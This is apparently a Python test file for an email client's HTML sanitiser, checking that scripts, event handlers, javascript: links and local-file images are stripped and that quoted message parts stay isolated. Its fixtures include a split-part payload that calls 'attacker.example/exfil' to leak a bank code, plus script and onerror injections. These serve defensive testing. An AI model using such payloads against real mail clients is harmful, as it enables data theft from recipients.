"""The allow-list sanitiser shared by the reader and the composer (client/security): each part
alone and closed (H6), data: pictures within a cap (H4), and the outgoing quote's rules."""

from __future__ import annotations

import base64
from html.parser import HTMLParser

from client.mime import BodyPart
from client.security.html_sanitize import (
    MAX_DATA_IMAGE_CHARS,
    DataImageBudget,
    quoted_parts_html,
    sanitise_part,
)

PNG = "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 40).decode()
SPLIT = (BodyPart("1", "html", "<img src='http://attacker.example/exfil?"),
         BodyPart("2", "html", "<p>SECRET-BANK-CODE 4711</p>"), BodyPart("3", "html", "'>"))


class _Markup(HTMLParser):
    """Text and attribute values of a fragment, apart."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self.attributes: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.attributes += [value or "" for _name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_a_part_is_closed_and_stripped_of_script_and_handlers() -> None:
    cleaned = sanitise_part("<div onclick='x()'><b>open <script>alert(1)</script>"
                            "<img src=x onerror=alert(2)>", DataImageBudget())
    assert cleaned.count("<div") == cleaned.count("</div>") and "</b>" in cleaned
    assert "script" not in cleaned and "onerror" not in cleaned and "onclick" not in cleaned


def test_data_pictures_within_the_cap_are_kept_and_others_counted() -> None:
    budget = DataImageBudget()
    big = "data:image/png;base64," + "A" * (MAX_DATA_IMAGE_CHARS + 10)
    cleaned = sanitise_part(f"<img src='{PNG}'><img src='{big}'>"
                            "<a href='data:text/html,<script>x</script>'>x</a>", budget)
    assert [a.get("src") for t, a in _Markup(cleaned).tags if t == "img"] == [PNG, None]
    assert budget.dropped == 1 and budget.chars == len(PNG)  # the link is no picture
    assert "data:text/html" not in cleaned


def test_a_rewrite_hook_sees_every_url_but_data_pictures() -> None:
    seen: list[tuple[str, str, str]] = []

    def hook(tag: str, attr: str, value: str) -> str | None:
        seen.append((tag, attr, value))
        return None if tag == "img" else value

    cleaned = sanitise_part(f"<a href='https://a.example/'>a</a><img src='cid:logo'>"
                            f"<img src='{PNG}'>", DataImageBudget(), rewrite=hook)
    assert seen == [("a", "href", "https://a.example/"), ("img", "src", "cid:logo")]
    assert "cid:logo" not in cleaned and PNG in cleaned


def test_quoted_parts_keep_the_middle_part_as_text_never_in_an_attribute() -> None:
    html = quoted_parts_html(SPLIT)
    markup = _Markup(html)
    assert "SECRET-BANK-CODE 4711" in "".join(markup.text)
    assert not any("SECRET" in value for value in markup.attributes)
    assert [t for t, a in markup.tags if "tw-part" in (a.get("class") or "")] == ["div"] * 3


def test_quoted_parts_keep_cid_and_web_pictures_but_not_local_files_or_script() -> None:
    html = quoted_parts_html((
        BodyPart("1", "html", "<p>logo <img src='cid:logo@x'> <img src='https://cdn.example/a.png'>"
                 "<img src='file:///etc/passwd'><img src='//host/share/x.png'>"
                 "<img src='relative.png'><a href='https://shop.example/'>shop</a>"
                 f"<a href='javascript:alert(3)'>js</a><img src='{PNG}'>"
                 "<script>alert(1)</script>"),
        BodyPart("2", "text", "plain <b>text</b> & more\nline two"),
    ))
    markup = _Markup(html)
    srcs = [a.get("src") for t, a in markup.tags if t == "img"]
    assert srcs == ["cid:logo@x", "https://cdn.example/a.png", None, None, None, PNG]
    assert ("a", {"href": "https://shop.example/", "rel": "noopener noreferrer"}) in markup.tags
    assert "script" not in html and "alert(3)" not in html
    assert "plain <b>text</b> & more" in "".join(markup.text)  # the text part, escaped


def test_signature_and_quote_markers_survive_for_a_reopened_draft() -> None:
    html = quoted_parts_html((BodyPart("1", "html",
        '<div>hi</div><div class="tw-signature">Anna</div><div class="evil x">q</div>'),))
    classes = [a.get("class") for t, a in _Markup(html).tags if t == "div"]
    assert "tw-signature" in classes and "evil x" not in classes


def test_only_text_parts_give_nothing() -> None:
    assert quoted_parts_html((BodyPart("1", "text", "just text"),)) is None
    assert quoted_parts_html(()) is None
